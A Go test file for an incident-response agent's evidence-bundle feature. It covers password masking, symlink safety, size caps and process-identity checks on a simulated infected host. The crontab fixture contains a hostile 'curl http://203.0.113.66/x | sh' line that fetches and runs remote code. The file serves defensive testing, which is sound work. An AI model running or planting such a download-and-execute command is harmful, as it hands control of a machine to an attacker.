package agent

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"context"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"log/slog"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"demine/internal/explain"
	"demine/internal/fact"
	"demine/internal/host"
	"demine/internal/respond"
	"demine/internal/store"
)

// infected is a live host with an implant whose file was deleted, a crontab
// that Redis wrote, and a user who would like root's secrets to be taken.
func infected(t *testing.T) (a *Agent, s *explain.Scan, dir string) {
	t.Helper()
	dir = t.TempDir()
	if err := os.Chmod(filepath.Dir(dir), 0o755); err != nil {
		t.Fatal(err)
	}
	a, err := New(host.Live(), slog.New(slog.DiscardHandler))
	if err != nil {
		t.Fatal(err)
	}
	a = a.With(Settings{State: filepath.Join(dir, "state"), Version: "1.2.3"})
	write := func(name, content string, uid int) fact.Path {
		p := filepath.Join(dir, name)
		if err := errors.Join(os.MkdirAll(filepath.Dir(p), 0o755), os.WriteFile(p, []byte(content), 0o600), os.Chown(p, uid, uid)); err != nil {
			t.Fatal(err)
		}
		return fact.Path(p)
	}
	cron := write("cron/root", "REDIS0009"+strings.Repeat("\x00data", 500_000)+"\n* * * * * curl http://203.0.113.66/x | sh\n", 0)
	conf := write("redis.conf", "port 6380\nrequirepass hunter2hunter2\n", 0)
	write("home/.bash_history", "ls\nmysql -uroot -phunter2hunter2\n", 0)
	secret := write("secret", "root's own", 0)
	evil := filepath.Join(dir, "evil")
	if err := errors.Join(os.Mkdir(evil, 0o755), os.Symlink(string(secret), filepath.Join(evil, ".bash_history")), os.Chown(evil, 65534, 65534)); err != nil {
		t.Fatal(err)
	}
	account := func(name string) fact.Account {
		return fact.Account{Name: name, Home: fact.Path(filepath.Join(dir, name)), Login: true}
	}
	s = &explain.Scan{ID: "S-1", Host: fact.HostInfo{Name: "shop01", Zone: "CST", Offset: 28800}, Incidents: []explain.Incident{{Implants: []explain.Implant{
		{Kind: "process", Ref: running(t, dir), Name: filepath.Join(dir, "minerd")},
		{Kind: "autostart", Ref: "autostart:cron:x", Name: "* * * * * curl http://203.0.113.66/x | sh", Origin: &fact.Origin{Path: cron, Line: 2}},
	}}}, Snapshot: &fact.Snapshot{
		Service:  []fact.Service{{Name: "redis", Config: conf}},
		Account:  []fact.Account{account("home"), account("evil")},
		Firewall: []fact.Ruleset{{Backend: "nft", Family: "ip", Table: "filter", Chains: []fact.Chain{{Name: "INPUT", Rules: []fact.Rule{{N: 1, Text: "-A INPUT -j ACCEPT"}}}}}},
	}}
	return a, s, dir
}

// running starts a program, deletes its file, and names its process.
func running(t *testing.T, dir string) fact.Ref {
	t.Helper()
	exe := filepath.Join(dir, "minerd")
	b, err := os.ReadFile("/bin/sleep")
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(exe, b, 0o755); err != nil {
		t.Fatal(err)
	}
	c := exec.Command(exe, "1000")
	if err := c.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = c.Process.Kill(); _ = c.Wait() })
	if err := os.Remove(exe); err != nil {
		t.Fatal(err)
	}
	stat, err := os.ReadFile(fmt.Sprintf("/proc/%d/stat", c.Process.Pid))
	if err != nil {
		t.Fatal(err)
	}
	fields := strings.Fields(string(stat[bytes.LastIndexByte(stat, ')')+1:]))
	return fact.Ref(fmt.Sprintf("process:12345678/%d@%s", c.Process.Pid, fields[19]))
}

// unpacked reads a bundle.
func unpacked(t *testing.T, b []byte) (map[string][]byte, Manifest) {
	t.Helper()
	z, err := gzip.NewReader(bytes.NewReader(b))
	if err != nil {
		t.Fatal(err)
	}
	files := map[string][]byte{}
	for r := tar.NewReader(z); ; {
		h, err := r.Next()
		if err == io.EOF {
			break
		}
		if err != nil {
			t.Fatal(err)
		}
		if h.Mode != 0o600 || strings.HasPrefix(h.Name, "/") || strings.Contains(h.Name, "..") {
			t.Errorf("%s has mode %o", h.Name, h.Mode)
		}
		if files[h.Name], err = io.ReadAll(r); err != nil {
			t.Fatal(err)
		}
	}
	var m Manifest
	if err := json.Unmarshal(files["manifest.json"], &m); err != nil {
		t.Fatal(err)
	}
	for _, k := range m.Files {
		if sumOf(files[k.Name]) != k.SHA256 || int64(len(files[k.Name])) != k.Size {
			t.Errorf("%s is not as the manifest says", k.Name)
		}
	}
	if len(m.Files) != len(files)-1 {
		t.Errorf("%d files, %d in the manifest", len(files)-1, len(m.Files))
	}
	return files, m
}

func ofPath(t *testing.T, m Manifest, match string) Kept {
	t.Helper()
	for _, k := range m.Files {
		if strings.HasSuffix(string(k.Path), match) {
			return k
		}
	}
	t.Fatalf("nothing of %s was taken", match)
	return Kept{}
}

func TestEvidence(t *testing.T) {
	a, s, dir := infected(t)
	st, err := store.Open(filepath.Join(dir, "state"), store.Options{Run: filepath.Join(dir, "run")})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := st.Begin(respond.Plan{ID: "P-1"}, respond.Operator{}); err != nil {
		t.Fatal(err)
	}
	var out bytes.Buffer
	b, err := a.Evidence(t.Context(), &out, s, Evidence{})
	if err != nil {
		t.Fatal(err)
	}
	if b.Size != int64(out.Len()) || b.SHA256 != sumOf(out.Bytes()) {
		t.Errorf("size %d, sum %s", b.Size, b.SHA256)
	}
	files, m := unpacked(t, out.Bytes())
	for _, name := range []string{"custody.json", "scan.json", "indicators.json", "firewall.txt", "runs/R1.json"} {
		if len(files[name]) == 0 {
			t.Errorf("%s is not there", name)
		}
	}
	sleep, err := os.ReadFile("/bin/sleep")
	if err != nil {
		t.Fatal(err)
	}
	exe := ofPath(t, m, "/exe")
	if !exe.Encoded || exe.Original != sumOf(sleep) || bytes.Contains(files[exe.Name], []byte("\x7fELF")) {
		t.Errorf("the deleted program: %+v", exe)
	}
	if !bytes.Contains(files["indicators.json"], []byte(exe.Original)) {
		t.Errorf("its sum is no indicator: %s", files["indicators.json"])
	}
	if !bytes.Equal(encoded(files[exe.Name]), sleep) { // encoding twice is decoding
		t.Error("the program does not decode")
	}
	if !strings.Contains(m.Decode, hex.EncodeToString([]byte(evidenceKey))) {
		t.Errorf("the command has another key: %s", m.Decode)
	}
	cron, err := os.ReadFile(filepath.Join(dir, "cron/root"))
	if err != nil {
		t.Fatal(err)
	}
	if k := ofPath(t, m, "cron/root"); k.Cut != "head" || k.Size != mostDump || k.Whole != sumOf(cron) {
		t.Errorf("the crontab that Redis wrote: %+v", k)
	}
	if bytes.Contains(out.Bytes(), []byte("hunter2")) || bytes.Contains(bytes.Join(contents(files), nil), []byte("hunter2")) {
		t.Error("a password is in it")
	}
	if k := ofPath(t, m, "home/.bash_history"); !k.Masked || k.Original == "" {
		t.Errorf("history: %+v", k)
	}
	if bytes.Contains(bytes.Join(contents(files), nil), []byte("root's own")) {
		t.Error("a user's link to root's file was followed")
	}
	if !strings.Contains(string(files["manifest.json"]), errLink.Error()) {
		t.Error("nothing says that a link was not followed")
	}
	var c custody
	if err := json.Unmarshal(files["custody.json"], &c); err != nil || c.Version != "1.2.3" || c.Local.Format("-0700") != "+0800" || c.Clock.State == "" {
		t.Errorf("custody %+v, error %v", c, err)
	}
}

func contents(files map[string][]byte) [][]byte {
	var out [][]byte
	for _, b := range files {
		out = append(out, b)
	}
	return out
}

func TestRawEvidence(t *testing.T) {
	a, s, _ := infected(t)
	var out bytes.Buffer
	if _, err := a.Evidence(t.Context(), &out, s, Evidence{Raw: true}); err != nil {
		t.Fatal(err)
	}
	files, m := unpacked(t, out.Bytes())
	if k := ofPath(t, m, "redis.conf"); k.Masked || !bytes.Contains(files[k.Name], []byte("hunter2")) {
		t.Errorf("%+v", k)
	}
}

// A bundle never grows over its limit; what it has no room for is named.
func TestEvidenceCap(t *testing.T) {
	a, s, dir := infected(t)
	noise := make([]byte, 2<<20)
	state := uint32(1)
	for i := range noise { // that does not compress
		state ^= state << 13
		state ^= state >> 17
		state ^= state << 5
		noise[i] = byte(state)
	}
	big := filepath.Join(dir, "big")
	if err := os.WriteFile(big, noise, 0o600); err != nil {
		t.Fatal(err)
	}
	s.Incidents[0].Implants = append(s.Incidents[0].Implants, explain.Implant{Kind: "file", Name: big})
	var out bytes.Buffer
	if _, err := a.Evidence(t.Context(), &out, s, Evidence{Cap: 1 << 20}); err != nil {
		t.Fatal(err)
	}
	if out.Len() > 1<<20 {
		t.Errorf("%d bytes", out.Len())
	}
	_, m := unpacked(t, out.Bytes())
	if len(m.Left) == 0 || !strings.Contains(fmt.Sprint(m.Left), errFull.Error()) {
		t.Errorf("left: %v", m.Left)
	}
	ofPath(t, m, "redis.conf") // what is small and comes later is still taken
}

type fullDisk struct{ room int }

func (f *fullDisk) Write(p []byte) (int, error) {
	if f.room -= len(p); f.room < 0 {
		return 0, errors.New("no space left")
	}
	return len(p), nil
}

func TestEvidenceCannotBeWritten(t *testing.T) {
	a, s, dir := infected(t)
	for _, room := range []int{0, 1000, 20000} {
		if _, err := a.Evidence(t.Context(), &fullDisk{room}, s, Evidence{}); err == nil {
			t.Errorf("room for %d bytes: no error", room)
		}
	}
	ctx, cancel := context.WithCancel(t.Context())
	cancel()
	if _, err := a.Evidence(ctx, io.Discard, s, Evidence{}); !errors.Is(err, context.Canceled) {
		t.Errorf("interrupted: %v", err)
	}
	name := filepath.Join(dir, "bundle.tar.gz")
	f, err := CreateEvidence(name)
	if err != nil {
		t.Fatal(err)
	}
	f.Close()
	if i, _ := os.Stat(name); i.Mode().Perm() != 0o600 {
		t.Errorf("mode %v", i.Mode())
	}
	if _, err := CreateEvidence(name); !errors.Is(err, os.ErrExist) {
		t.Errorf("over a file that is there: %v", err)
	}
}

// A pid that was given to another process is not the implant.
func TestAnotherProcess(t *testing.T) {
	a, s, _ := infected(t)
	im := &s.Incidents[0].Implants[0]
	if a.alive(im.Ref) == 0 {
		t.Error("the implant is not found")
	}
	for _, ref := range []fact.Ref{im.Ref + "0", "process:b/1@1", "process:b/x@1", "process:", "key:b/2@3", ""} {
		if pid := a.alive(ref); pid != 0 {
			t.Errorf("%s is taken for process %d", ref, pid)
		}
	}
}

func TestClouds(t *testing.T) {
	for said, want := range map[string]string{
		"Alibaba Cloud | Alibaba Cloud ECS": "Alibaba Cloud", "Tencent Cloud | CVM": "Tencent Cloud", "Amazon EC2 | t3.large": "Amazon EC2",
		"Xen | HVM domU | Xen | 4.11.amazon": "Amazon EC2", "Microsoft Corporation | Virtual Machine | 7783-7084-3265-9085-8269-3286-77": "Microsoft Azure",
		"HUAWEI | Tecal RH2288 V3": "", "Huawei | OpenStack Nova | HUAWEICLOUD": "Huawei Cloud", "OpenStack Foundation | OpenStack Nova": "OpenStack", "Dell Inc. | PowerEdge R740": "", "": "",
	} {
		if got := cloudOf(said); got != want {
			t.Errorf("%s: %q, want %q", said, got, want)
		}
	}
	a := newAgent(t, []byte("-- /sys/class/dmi/id/sys_vendor --\nAlibaba Cloud\n-- /var/lib/cloud/data/instance-id --\ni-bp1abc\n"))
	m, ok := a.SnapshotFirst()
	if !ok || m.Args["cloud"] != "Alibaba Cloud" || m.Args["instance"] != "i-bp1abc" {
		t.Errorf("%v %v", m, ok)
	}
	if m, ok := newAgent(t, []byte("-- /etc/hostname --\nx\n")).SnapshotFirst(); ok {
		t.Errorf("on iron: %v", m)
	}
}
